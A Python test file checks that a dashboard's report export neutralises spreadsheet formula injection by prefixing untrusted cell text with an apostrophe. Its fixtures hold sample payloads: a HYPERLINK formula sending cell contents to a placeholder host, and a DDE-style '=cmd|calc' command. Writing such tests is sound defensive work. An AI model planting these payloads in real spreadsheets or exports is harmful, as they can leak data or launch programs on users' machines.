"""Reports: spreadsheet formula injection from article text is defused; every format is a valid file."""

import pandas as pd

from dashboard.reports import ReportRequest, build_report, defuse_formulas
from dealradar.warehouse import open_warehouse


def test_defuse_formulas():
    df = pd.DataFrame({"title": ['=HYPERLINK("http://x/?"&A1,"Click")', "+1", "Acme raises", "ok"], "n": [1, 2, 3, 4]})
    out = defuse_formulas(df)
    assert out["title"].tolist() == ['\'=HYPERLINK("http://x/?"&A1,"Click")', "'+1", "Acme raises", "ok"]
    assert out["n"].tolist() == [1, 2, 3, 4]


def test_csv_report_defuses_untrusted_titles(fixture_db):
    with open_warehouse(fixture_db) as con:
        con.execute("UPDATE deals SET company = '=cmd|calc' WHERE deal_id = 1")
        data, mime, name = build_report(con, ReportRequest(fmt="csv"))
    df = pd.read_csv(pd.io.common.BytesIO(data))
    assert "'=cmd|calc" in df["company"].tolist()
    assert (mime, name) == ("text/csv", "dealradar-all-sectors-start_latest.csv")
